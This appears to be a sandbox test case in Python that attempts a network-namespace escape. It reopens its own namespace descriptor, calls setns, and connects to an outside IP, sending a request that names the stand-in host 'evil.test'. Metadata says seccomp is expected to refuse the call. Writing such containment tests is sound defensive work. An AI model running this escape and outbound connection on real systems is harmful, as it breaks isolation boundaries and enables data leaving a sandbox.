"""The worker joins a namespace that it has a descriptor of.

setns(2) leads into any namespace of which a process can open the file below /proc. In the open the
starter's network namespace is joined again from a fresh one, and a connection made there.

Layers: seccomp, with a record; without it the worker still lacks the right to it, and nobody
records the try.

Not covered: descriptors that somebody sends in; there is no socket over which one could come.
"""

import os

import native

ATTACK = {
    "title": "Join another namespace",
    "group": "calls",
    "layer": "seccomp",
    "risk": "boundary-tampering",
    "references": ["setns(2)", "CVE-2019-5736", "ATT&CK T1611"],
    "arrives": [{"what": "tcp", "address": "93.184.216.66"}],
    "stopped": [
        {
            "reason": ["system-call-refused"],
            "entry": ["exec"],
            "layer": ["seccomp"],
            "where": {"call": "setns"},
            "seen": ["EPERM"],
        }
    ],
    "needs": ["root"],
}


def attempt(kit):
    import socket

    def join():
        outside = os.open("/proc/self/ns/net", os.O_RDONLY)
        if kit.is_open:
            native.system_call((272, 97), 0x40000000)  # away from it, as the worker is
        native.checked(native.libc.setns(outside, 0x40000000), "setns")
        with socket.create_connection(("93.184.216.66", 80), 3) as stream:
            stream.sendall(kit.get("/joined", "evil.test").encode())
            stream.recv(100)

    native.apart(kit, "setns", join)
